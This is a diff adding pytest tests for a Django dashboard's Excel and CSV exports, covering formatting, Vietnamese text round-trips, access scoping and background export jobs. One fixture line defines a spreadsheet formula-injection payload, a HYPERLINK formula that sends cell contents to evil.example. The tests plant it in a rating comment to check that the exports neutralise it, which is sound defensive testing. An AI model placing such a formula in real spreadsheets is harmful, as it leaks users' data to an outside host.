@@ -1,0 +1,214 @@
+"""Exports of the dashboards: the Excel workbook re-opened cell by cell, CSV with its BOM, formula
+neutralisation, rating rows streamed when small, and the export job (with its owner check) when big."""
+
+import csv
+import io
+import random
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from feedback.models import Rating
+from reports.export_models import ExportJob, ExportStatus
+from reports.exports import BOM
+from reports.measures import Period, rank_units, unit_measures
+from reports.models import UnitKind
+from reports.rollups import fold_rollups
+from tests.reports.support import add_declarations, add_ratings
+
+PERIOD = "2025-01..2025-06"
+DEPARTMENT = reverse("reports:dashboard-department")
+RATINGS = reverse("reports:dashboard-ratings")
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
+
+
+@pytest.fixture
+def rated(cast):
+    rng = random.Random(11)
+    declarations = add_declarations(cast, 150, rng, businesses=[cast.business_x, cast.business_y])
+    ratings = add_ratings(cast, declarations, rng, share=0.9)
+    fold_rollups(lag_seconds=0)
+    ratings = sorted(ratings, key=lambda r: r.declaration.cleared_at)
+    Rating.objects.filter(pk=ratings[0].pk).update(comment=HYPERLINK)
+    Rating.objects.filter(pk=ratings[1].pk).update(comment="Hải quan Móng Cái hỗ trợ rất tốt")
+    return ratings
+
+
+def staff_get(client, cast, url, **params):
+    client.force_login(cast.users.staff)
+    return client.get(url, params)
+
+
+def test_department_workbook_cell_by_cell(client, cast, rated):
+    response = staff_get(client, cast, DEPARTMENT, period=PERIOD, export="xlsx")
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+    assert "attachment" in response["Content-Disposition"]
+    book = load_workbook(io.BytesIO(response.content))
+    assert book.sheetnames == [
+        "Totals",
+        "Monthly trend",
+        "Branches",
+        "Teams",
+        "Officers",
+        "Level distribution",
+        "Case deadlines met",
+    ]
+    staff, period = cast.users.staff, Period.parse(PERIOD)
+    department = unit_measures(staff, UnitKind.DEPARTMENT, cast.department.pk, period)
+
+    totals = book["Totals"]
+    assert totals["A1"].value == "Totals"
+    assert totals["A1"].font.bold
+    headers = [cell.value for cell in totals[4]]
+    assert headers[:5] == [
+        "Department",
+        "Period",
+        "Ratings",
+        "Satisfaction rate",
+        "Channel-adjusted satisfaction",
+    ]
+    assert totals["A4"].font.bold and totals["A4"].fill.fgColor.rgb.endswith("0B4F8A")
+    assert totals["A5"].value == cast.department.name
+    assert totals["B5"].value == "01/2025 – 06/2025"
+    assert totals["C5"].value == department.ratings
+    assert totals["C5"].number_format == "#,##0"
+    assert totals["D5"].value == pytest.approx(department.satisfaction_rate)
+    assert totals["D5"].number_format == "0.0%"
+    assert totals["G5"].number_format == "#,##0.00"  # mean level
+    assert totals.freeze_panes == "B5"
+    assert totals.column_dimensions["A"].width > 20
+
+    branches = book["Branches"]
+    ranked = rank_units(staff, UnitKind.BRANCH, period, within=(UnitKind.DEPARTMENT, cast.department.pk))
+    for row, figures in enumerate(ranked, start=5):
+        assert branches.cell(row=row, column=1).value == figures.rank
+        assert branches.cell(row=row, column=2).value == figures.unit_name
+        assert branches.cell(row=row, column=3).value == figures.ratings
+        assert branches.cell(row=row, column=5).value == pytest.approx(figures.channel_adjusted.adjusted)
+    assert branches.freeze_panes == "C5"
+    assert len(branches._charts) == 1  # the native bar chart of the branches
+    chart = branches._charts[0]
+    assert chart.type == "bar"
+
+    trend = book["Monthly trend"]
+    assert [trend.cell(row=r, column=1).value for r in range(5, 11)] == [f"{m:02d}/2025" for m in range(1, 7)]
+    assert sum(trend.cell(row=r, column=2).value for r in range(5, 11)) == department.ratings
+
+
+def test_table_csv_has_a_bom_and_round_trips_vietnamese(client, cast, rated):
+    response = staff_get(client, cast, DEPARTMENT, period=PERIOD, export="branches")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    raw = response.content
+    assert raw.startswith(BOM.encode("utf-8"))  # b"\xef\xbb\xbf": Excel then reads UTF-8
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert rows[0][:3] == ["Rank", "Branch", "Ratings"]
+    assert rows[0][3] == "Satisfaction rate (%)"
+    assert {row[1] for row in rows[1:]} == {"Chi cục Hải quan Móng Cái", "Chi cục Hải quan Hòn Gai"}
+
+
+def test_unknown_table_is_404(client, cast, rated):
+    assert staff_get(client, cast, DEPARTMENT, period=PERIOD, export="nope").status_code == 404
+
+
+def test_rating_rows_csv_streams_and_neutralises_formulas(client, cast, rated):
+    response = staff_get(client, cast, RATINGS, level="department", code="QN", period=PERIOD, format="csv")
+    assert response.status_code == 200
+    assert response.streaming
+    raw = b"".join(response.streaming_content)
+    assert raw.startswith(BOM.encode("utf-8"))
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert rows[0][0] == "Declaration number"
+    assert len(rows) - 1 == len(rated)
+    comments = [row[-1] for row in rows[1:]]
+    assert "'" + HYPERLINK in comments  # inert: starts with an apostrophe
+    assert HYPERLINK not in comments
+    assert "Hải quan Móng Cái hỗ trợ rất tốt" in comments
+    assert not any(cast.business_x.name in row or cast.business_x.tax_code in row for row in rows)
+
+
+def test_rating_rows_xlsx_keeps_a_formula_inert(client, cast, rated):
+    response = staff_get(client, cast, RATINGS, level="department", code="QN", period=PERIOD, format="xlsx")
+    assert response.status_code == 200
+    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    sheet = book.active
+    assert sheet.freeze_panes == "B2"
+    assert sheet["A1"].value == "Declaration number" and sheet["A1"].font.bold
+    cells = [row[9] for row in sheet.iter_rows(min_row=2)]
+    inert = next(cell for cell in cells if cell.value == HYPERLINK)
+    assert inert.data_type == "s"  # a string, not a formula ("f")
+    assert inert.quotePrefix
+    assert sheet["B2"].number_format == "dd/mm/yyyy hh:mm"
+    assert sheet.max_row - 1 == len(rated)
+
+
+def test_rating_rows_are_scoped(client, cast, rated):
+    client.force_login(cast.users.other_leader)
+    assert client.get(RATINGS, {"level": "branch", "code": "MC", "period": PERIOD}).status_code == 404
+    assert client.get(RATINGS, {"level": "department", "code": "QN", "period": PERIOD}).status_code == 404
+    client.force_login(cast.users.business)
+    assert client.get(RATINGS, {"level": "officer", "code": "OA1", "period": PERIOD}).status_code == 404
+    client.force_login(cast.users.officer)
+    response = client.get(RATINGS, {"level": "officer", "code": "OA1", "period": PERIOD, "format": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    assert rows[0][8] == "Officer's level"
+    assert all(row[8] in {"1", "2", "3", "4", "5"} for row in rows[1:])
+
+
+def test_big_export_runs_as_a_job_downloadable_only_by_its_owner(
+    client, cast, rated, settings, tmp_path, django_capture_on_commit_callbacks
+):
+    settings.EXPORT_SYNC_MAX_ROWS = 10
+    settings.MEDIA_ROOT = tmp_path
+    client.force_login(cast.users.staff)
+    with django_capture_on_commit_callbacks(execute=True):
+        response = client.get(RATINGS, {"level": "department", "code": "QN", "period": PERIOD, "format": "xlsx"})
+    job = ExportJob.objects.get()
+    assert response.status_code == 302 and response["Location"] == reverse("reports:export-job", args=[job.pk])
+    assert job.status == ExportStatus.DONE and job.progress == 100 and job.row_count == len(rated)
+    assert job.user == cast.users.staff and job.file.name.startswith("exports/")
+    assert (tmp_path / job.file.name).exists()
+
+    page = client.get(response["Location"])
+    assert page.status_code == 200 and b"Download the file" in page.content
+    status = client.get(reverse("reports:export-job-status", args=[job.pk])).json()
+    assert status["done"] and status["progress"] == 100 and status["download_url"]
+    download = client.get(status["download_url"])
+    assert download.status_code == 200
+    book = load_workbook(io.BytesIO(b"".join(download.streaming_content)), read_only=True)
+    assert sum(1 for _row in book.active.iter_rows()) == len(rated) + 1
+
+    for other in (cast.users.admin, cast.users.leader):
+        client.force_login(other)
+        assert client.get(status["download_url"]).status_code == 404
+        assert client.get(reverse("reports:export-job-status", args=[job.pk])).status_code == 404
+        assert client.get(reverse("reports:export-job", args=[job.pk])).status_code == 404
+
+
+def test_export_job_runs_once(cast, rated, settings, tmp_path):
+    from reports.export_services import RatingExport, run_export_job
+
+    settings.MEDIA_ROOT = tmp_path
+    export = RatingExport(UnitKind.BRANCH, cast.branch_a.pk, Period.parse(PERIOD), None, "csv")
+    job = ExportJob.objects.create(user=cast.users.leader, kind="ratings", params=export.as_params())
+    run_export_job(job.pk)
+    job.refresh_from_db()
+    finished, name = job.finished_at, job.file.name
+    assert job.status == ExportStatus.DONE
+    assert (tmp_path / name).read_bytes().startswith(BOM.encode("utf-8"))
+    run_export_job(job.pk)  # a second delivery of the task changes nothing
+    job.refresh_from_db()
+    assert (job.finished_at, job.file.name) == (finished, name)
+
+
+def test_export_job_out_of_scope_fails_without_a_file(cast, rated, settings, tmp_path):
+    from reports.export_services import RatingExport, run_export_job
+
+    settings.MEDIA_ROOT = tmp_path
+    export = RatingExport(UnitKind.BRANCH, cast.branch_a.pk, Period.parse(PERIOD), None, "xlsx")
+    job = ExportJob.objects.create(user=cast.users.other_leader, kind="ratings", params=export.as_params())
+    run_export_job(job.pk)
+    job.refresh_from_db()
+    assert job.status == ExportStatus.FAILED and not job.file
